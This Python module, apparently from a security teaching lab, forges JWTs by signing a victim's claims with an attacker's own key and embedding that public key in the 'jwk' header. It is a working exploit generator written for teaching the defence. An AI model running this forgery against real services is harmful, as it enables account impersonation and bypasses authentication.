"""What if a token brings the key along that it is to be checked with?"""

from __future__ import annotations

import json
from collections.abc import Iterable
from typing import Any

import jwt
from cryptography.hazmat.primitives.asymmetric import ec
from jwt.algorithms import ECAlgorithm

from lab.attacks.forged.forging import Forgery, parts_of
from lab.attacks.person import Person
from lab.attacks.scene import Scene


def own_key() -> tuple[ec.EllipticCurvePrivateKey, dict[str, Any]]:
    """A fresh private key of the attacker's, and its public half as a JWK."""
    private = ec.generate_private_key(ec.SECP256R1())
    return private, json.loads(ECAlgorithm.to_jwk(private.public_key()))


class EmbedTheOwnKey(Forgery):
    """The header `jwk` (RFC 7515, section 4.1.3) may hold a whole public key."""

    key = "embed-the-own-key"
    title = "Embed an own public key (jwk)"
    catalogue = ("A06",)
    story = (
        "Mallory makes a key pair, signs with the private key and puts the public one into the "
        "header, where the standard has a place for it."
    )
    gained = "The server checked the signature with the key that the forger had sent along."
    learned = "A key comes from the server's own ring, or it is none, whatever a header offers."

    def forged(self, scene: Scene, mallory: Person, victim: str) -> Iterable[tuple[str, str]]:
        header, claims, _ = parts_of(mallory.access_token or "")
        private, jwk = own_key()
        for kid in (header["kid"], "mallory"):
            fields = {"typ": header["typ"], "kid": kid, "jwk": jwk | {"kid": kid}}
            text = jwt.encode(claims | {"sub": victim}, private, "ES256", headers=fields)
            yield f"Signed with her key, which stands in `jwk`; `kid` is {kid[:8]!r}.", text
